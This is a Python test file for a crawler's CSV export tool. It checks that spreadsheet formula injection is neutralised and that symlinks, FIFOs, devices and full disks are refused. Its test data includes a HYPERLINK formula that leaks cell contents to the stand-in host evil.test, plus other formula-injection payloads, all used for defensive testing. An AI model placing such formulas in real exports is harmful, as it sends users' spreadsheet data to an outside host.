"""`python -m crawler.export` against hostile text and hostile targets (issue 15,
items 3 and 6): formula injection, symbolic links, FIFOs, devices, full disks.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import signal
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crawler.csvsafe import FORMULA_STARTS, neutralize_formula, spreadsheet_row
from tests.support.databases import rows
from tests.support.formulas import TITLE, crawl_formula_page
from tests.support.paths import ROOT


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.test/?"&A1,"انقر")', '\'=HYPERLINK("http://evil.test/?"&A1,"انقر")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("\n\u00a0=1+1", "'\n\u00a0=1+1"),
        ("＝1+1", "'＝1+1"),  # full width
        ("＠SUM(1)", "'＠SUM(1)"),
        ("عنوان = خبر", "عنوان = خبر"),  # inside the text: not a formula
        ("2024 - عام", "2024 - عام"),
        ("", ""),
        ("'already quoted", "'already quoted"),
    ],
)
def test_neutralize_formula(cell: str, expected: str) -> None:
    assert neutralize_formula(cell) == expected


@settings(max_examples=500)
@given(st.text(st.sampled_from([*FORMULA_STARTS, " ", "\n", "\u00a0", "a", "ع", "1", "'", "("]) | st.characters()))
def test_no_neutralized_cell_starts_like_a_formula(cell: str) -> None:
    safe = neutralize_formula(cell)
    assert safe == cell or safe == "'" + cell
    assert safe[:1] not in FORMULA_STARTS
    assert safe.startswith("'") or safe.lstrip(" \t\r\n\u00a0\u3000")[:1] not in FORMULA_STARTS


def test_spreadsheet_row_scrubs_text_and_keeps_numbers() -> None:
    assert spreadsheet_row((7, None, "\x1b[31m=1+1", "حلب")) == [7, None, "'=1+1", "حلب"]
    assert spreadsheet_row((7, "=1+1"), raw=True) == [7, "=1+1"]


# --- end to end: a crawled page with formulas in every field -------------------------

@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return crawl_formula_page(tmp_path_factory.mktemp("formulas") / "news.db")


def export(*args: str, **kwargs: object) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "crawler.export", *args]
    return subprocess.run(command, cwd=ROOT, capture_output=True, timeout=60, check=False, **kwargs)


def parse(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formulas_are_stored_as_written(formula_db: Path) -> None:
    (row,) = rows(formula_db)
    assert row["title"] == TITLE
    assert row["author"].startswith("@SUM")


def test_export_neutralizes_every_formula_cell(formula_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "safe.csv"
    assert export("--db", str(formula_db), "-o", str(out)).returncode == 0
    (record,) = parse(out.read_bytes())
    assert record["title"] == "'" + TITLE
    assert record["author"].startswith("'@SUM")
    assert record["section"] == "'+محليات"
    for name, value in record.items():
        assert value[:1] not in FORMULA_STARTS, (name, value)


def test_raw_export_writes_cells_as_stored(formula_db: Path) -> None:
    result = export("--db", str(formula_db), "--raw")
    assert result.returncode == 0
    (record,) = parse(result.stdout)
    assert record["title"] == TITLE
    assert record["section"] == "+محليات"


# --- targets ------------------------------------------------------------------------


def refused(formula_db: Path, target: Path) -> subprocess.CompletedProcess:
    result = export("--db", str(formula_db), "-o", str(target))
    assert result.returncode != 0
    (line,) = result.stderr.decode().strip().splitlines()
    assert line.startswith("export: error: ") and "refusing" in line, line
    return result


def test_a_symbolic_link_is_not_replaced(formula_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "important.txt"
    target.write_text("keep me", encoding="utf-8")
    link = tmp_path / "out.csv"
    link.symlink_to(target)
    refused(formula_db, link)
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "out.csv.part").exists()


def test_a_fifo_is_not_replaced(formula_db: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "out.csv"
    os.mkfifo(fifo)
    refused(formula_db, fifo)  # without blocking on it
    assert fifo.is_fifo()


def test_a_directory_is_not_replaced(formula_db: Path, tmp_path: Path) -> None:
    refused(formula_db, tmp_path)
    assert tmp_path.is_dir()


def test_a_device_is_not_replaced(formula_db: Path, tmp_path: Path) -> None:
    # a device node of its own (what /dev/null is), never the system's: an
    # exporter that replaced its target would destroy the real one
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device node needs root")
    refused(formula_db, device)
    assert device.is_char_device()


def test_a_symbolic_link_in_place_of_the_part_file_is_refused(formula_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep me", encoding="utf-8")
    (tmp_path / "out.csv.part").symlink_to(target)
    refused(formula_db, tmp_path / "out.csv")
    assert target.read_text(encoding="utf-8") == "keep me"
    assert not (tmp_path / "out.csv").exists()


def test_a_leftover_part_file_and_an_old_export_are_replaced(formula_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old export", encoding="utf-8")
    (tmp_path / "out.csv.part").write_text("killed export", encoding="utf-8")
    assert export("--db", str(formula_db), "-o", str(out)).returncode == 0
    assert parse(out.read_bytes())[0]["title"] == "'" + TITLE
    assert not (tmp_path / "out.csv.part").exists()


def test_a_full_device_on_stdout_is_an_error(formula_db: Path) -> None:
    with open("/dev/full", "wb") as full:
        result = subprocess.run(
            [sys.executable, "-m", "crawler.export", "--db", str(formula_db)],
            cwd=ROOT,
            stdout=full,
            stderr=subprocess.PIPE,
            timeout=60,
            check=False,
        )
    assert result.returncode != 0
    stderr = result.stderr.decode()
    assert "export: error: -: cannot write: No space left on device" in stderr
    assert "Traceback" not in stderr and "Exception ignored" not in stderr


def _small_file_limit() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (512, 512))  # a "full disk" after 512 bytes
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


def test_a_write_error_on_the_file_is_an_error_and_leaves_nothing(formula_db: Path, tmp_path: Path) -> None:
    # a copy without WAL: reading it writes no -shm file, so only the export hits the limit
    copy = tmp_path / "copy.db"
    source, target = sqlite3.connect(formula_db), sqlite3.connect(copy)
    source.backup(target)
    target.execute("PRAGMA journal_mode = DELETE")
    source.close()
    target.close()
    out = tmp_path / "out.csv"
    result = export("--db", str(copy), "-o", str(out), preexec_fn=_small_file_limit)
    assert result.returncode != 0
    assert "export: error: " in result.stderr.decode() and "cannot write" in result.stderr.decode()
    assert not out.exists() and not (tmp_path / "out.csv.part").exists()
